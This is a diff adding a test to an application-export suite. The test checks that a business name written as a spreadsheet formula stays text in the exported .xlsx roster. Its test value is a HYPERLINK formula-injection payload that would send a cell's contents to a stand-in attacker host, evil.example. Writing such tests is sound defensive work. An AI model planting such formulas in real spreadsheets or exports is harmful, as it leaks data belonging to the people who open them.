@@ -14,6 +14,7 @@ import { startTestBackend, type TestBackend } from '../support/backend'
 import { snapshotData, type DataSnapshot } from '../support/db-state'
 import { groups, personas, type Personas } from '../support/personas'
 import { failure } from '../support/question-desk'
+import { readXlsx, unzip } from '../support/xlsx'
 
 const programmes = { startup: '60000000-0000-4000-8000-000000000001', jobs: '60000000-0000-4000-8000-000000000004' } as const
 const seeded = {
@@ -200,5 +201,22 @@ describe('batches, export and 公示 of another street', () => {
     expect(failure(xOnly).code).toBe('22023')
     const other = await rpc(p.butlerX, 'link_visit_application', { visit_id: id, application_id: seeded.submitted, linked: true })
     expect(other.error?.code).toBe('P0002')
+  })
+})
+
+describe('the exported roster', () => {
+  it('a business name written as a formula stays text in the .xlsx, never a formula', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&C2,"点击核对")'
+    await be.db.query(`update public.applications set business_name = $2 where id = $1`, [seeded.approved, evil])
+    await be.db.query(`update public.application_batches set status = 'locked', locked_at = now(), publicity_until = now() + interval '5 days' where id = $1`, [batchX])
+    const token = await be.signToken({ sub: p.ids.butlerX })
+    const res = await fetch(`${be.url}/functions/v1/application-export?batch=${batchX}`, { headers: { apikey: be.anonKey, Authorization: `Bearer ${token}` } })
+    expect(res.status).toBe(200)
+    const bytes = Buffer.from(await res.arrayBuffer())
+    const files = unzip(bytes)
+    const sheet = [...files.entries()].find(([k]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(k))![1].toString('utf8')
+    expect(sheet).not.toMatch(/<f[ >]/)
+    const cell = readXlsx(bytes).rows[1]!.find((c) => c.value === evil)
+    expect(cell?.kind).toBe('text')
   })
 })
